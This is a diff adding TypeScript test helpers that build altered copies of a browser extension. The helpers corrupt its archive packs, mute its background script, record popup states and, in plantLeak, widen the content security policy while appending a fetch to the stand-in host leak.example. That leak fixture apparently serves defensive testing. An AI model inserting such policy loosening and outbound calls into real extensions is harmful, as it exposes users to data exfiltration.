@@ -1,0 +1,80 @@
+import { appendFile, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll } from 'vitest';
+import { extensionFor } from '../../src/cli/build-extension';
+import { kind } from './session';
+
+/** A changed copy of the built extension, kept until the tests of the block are done. */
+export function variant(change: (folder: string) => Promise<void>): () => Promise<string> {
+  let folder = '';
+  afterAll(() => rm(folder, { recursive: true, force: true }));
+  return async () => {
+    folder = await mkdtemp(join(tmpdir(), 'backstory-variant-'));
+    await cp(extensionFor(kind), folder, { recursive: true });
+    await change(folder);
+    return folder;
+  };
+}
+
+/** Flips every bit of 64 bytes in the middle of each pack. */
+export async function damagePacks(folder: string): Promise<void> {
+  const packs = (await readdir(join(folder, 'archive'))).filter((name) => name.endsWith('.pack'));
+  if (packs.length === 0) throw new Error('the build has no pack to damage');
+  for (const name of packs) {
+    const bytes = await readFile(join(folder, 'archive', name));
+    const middle = bytes.length >> 1;
+    for (let at = middle; at < middle + 64; at++) bytes[at] = bytes[at]! ^ 0xff;
+    await writeFile(join(folder, 'archive', name), bytes);
+  }
+}
+
+/** Replaces the background by one that takes every question and answers none. */
+export async function muteBackground(folder: string): Promise<void> {
+  await writeFile(
+    join(folder, await backgroundFile(folder)),
+    '(globalThis.browser ?? chrome).runtime.onMessage.addListener(() => new Promise(() => {}) && true);\n',
+  );
+}
+
+/** Makes the background send something out, and the content policy let it. */
+export async function plantLeak(folder: string): Promise<void> {
+  const manifest = await manifestOf(folder);
+  const policy = manifest.content_security_policy.extension_pages as string;
+  manifest.content_security_policy.extension_pages = policy.replace(
+    "connect-src 'self'",
+    "connect-src 'self' https:",
+  );
+  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
+  await appendFile(
+    join(folder, await backgroundFile(folder)),
+    "\nfetch('https://leak.example/planted').catch(() => {});\n",
+  );
+}
+
+/** Makes the popup keep every state it goes through, from its first moment, in `window.statesSeen`. */
+export async function recordStates(folder: string): Promise<void> {
+  const popup = join(folder, (await manifestOf(folder)).action.default_popup);
+  const html = await readFile(popup, 'utf8');
+  await writeFile(popup, html.replace('<head>', '<head><script src="/record-states.js"></script>'));
+  await writeFile(join(folder, 'record-states.js'), RECORDER);
+}
+
+const RECORDER = `
+window.statesSeen = [];
+new MutationObserver(() => {
+  const state = document.querySelector('main')?.dataset.state ?? '';
+  const text = document.querySelector('[role=status]')?.textContent.trim() ?? '';
+  const last = window.statesSeen.at(-1);
+  if (state !== '' && (last?.state !== state || last.text !== text)) window.statesSeen.push({ state, text });
+}).observe(document, { attributes: true, characterData: true, childList: true, subtree: true });
+`;
+
+async function manifestOf(folder: string) {
+  return JSON.parse(await readFile(join(folder, 'manifest.json'), 'utf8'));
+}
+
+async function backgroundFile(folder: string): Promise<string> {
+  const { background } = await manifestOf(folder);
+  return background.service_worker ?? background.scripts[0];
+}
